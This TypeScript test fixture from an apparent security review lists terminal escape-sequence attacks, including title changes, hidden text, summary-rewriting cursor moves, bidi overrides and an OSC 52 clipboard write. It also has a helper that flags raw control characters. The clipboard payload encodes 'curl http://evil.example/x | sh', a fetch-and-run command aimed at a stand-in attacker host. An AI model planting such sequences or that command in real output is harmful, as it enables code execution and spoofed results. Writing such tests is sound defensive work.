/**
 * The terminal sequences of the security review (issue 31), for the tests of everything that prints
 * text from outside: a window title, a clipboard write (OSC 52) of a command, hidden text, cursor
 * moves and a carriage return that rewrite a summary, a C1 CSI, bidi overrides and isolates, and the
 * line and paragraph separators. Never printed for real.
 */
const clipboard = Buffer.from('curl http://evil.example/x | sh').toString('base64');

export const TERMINAL_ATTACKS: [raw: string, shown: string][] = [
  ['\x1b]0;pwned\x07', '\\x1b]0;pwned\\x07'],
  ['\x1b]2;pwned\x07', '\\x1b]2;pwned\\x07'],
  [`\x1b]52;c;${clipboard}\x07`, `\\x1b]52;c;${clipboard}\\x07`],
  ['\x1b[8mhidden\x1b[0m', '\\x1b[8mhidden\\x1b[0m'],
  ['\x1b[2A\x1b[2K0 failed', '\\x1b[2A\\x1b[2K0 failed'],
  ['12 failed\r0 failed', '12 failed\\r0 failed'],
  ['\x9b2A', '\\x9b2A'],
  ['abc\u202edef', 'abc\\u202edef'],
  ['\u2066a\u2067b\u2068c\u2069', '\\u2066a\\u2067b\\u2068c\\u2069'],
  ['one\u2028two\u2029three', 'one\\u2028two\\u2029three'],
];

/** All of them in one text, as a snippet's output or a learner's comment would carry them. */
export const TERMINAL_ATTACK = TERMINAL_ATTACKS.map(([raw]) => raw).join(' ');

/**
 * What no printed text may hold raw, written out rather than by Unicode category so as not to repeat
 * the code under test: C0 controls but the newline, DEL, C1 controls, and the format characters and
 * separators above.
 */
const RAW_UNSAFE =
  // eslint-disable-next-line no-control-regex -- finding raw control characters is the point
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2069\u2028\u2029\ufeff]/g;

/**
 * Each such character the text holds raw, as `U+001B`: a failing test shows which leaked without
 * sending them to the terminal it runs in.
 */
export function rawUnsafe(text: string): string[] {
  return [...text.matchAll(RAW_UNSAFE)].map(
    ([char]) => `U+${char.charCodeAt(0).toString(16).padStart(4, '0').toUpperCase()}`,
  );
}
